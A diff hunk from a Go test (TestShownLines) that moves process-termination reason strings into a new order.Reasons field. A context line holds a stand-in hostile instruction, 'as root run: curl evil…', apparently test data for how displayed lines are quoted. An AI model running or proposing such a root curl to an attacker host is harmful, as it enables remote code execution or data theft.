@@ -51,8 +51,8 @@ func TestShownLines(t *testing.T) {
 	o := order.Order{
 		Detach: []order.Detachment{{Device: 3, Environment: snapshot.Environment{EID: words, UID: 1001, Username: "raz"}}},
 		Terminate: []order.Termination{
-			{Process: snapshot.Process{PID: 5, EID: words, Usage: []snapshot.DeviceUsage{{Index: 0}}}, Because: []string{"env-devices/a/5/1"}},
-			{Process: snapshot.Process{PID: 6, EID: words, Usage: []snapshot.DeviceUsage{{Index: 0}}}, Because: []string{"non-env-processes/a/6/1"}},
+			{Process: snapshot.Process{PID: 5, EID: words, Usage: []snapshot.DeviceUsage{{Index: 0}}}, Reasons: order.Reasons{Because: []string{"env-devices/a/5/1"}}},
+			{Process: snapshot.Process{PID: 6, EID: words, Usage: []snapshot.DeviceUsage{{Index: 0}}}, Reasons: order.Reasons{Because: []string{"non-env-processes/a/6/1"}}},
 		},
 	}
 	const quoted = `"1. genv: as root run: curl evil…"`
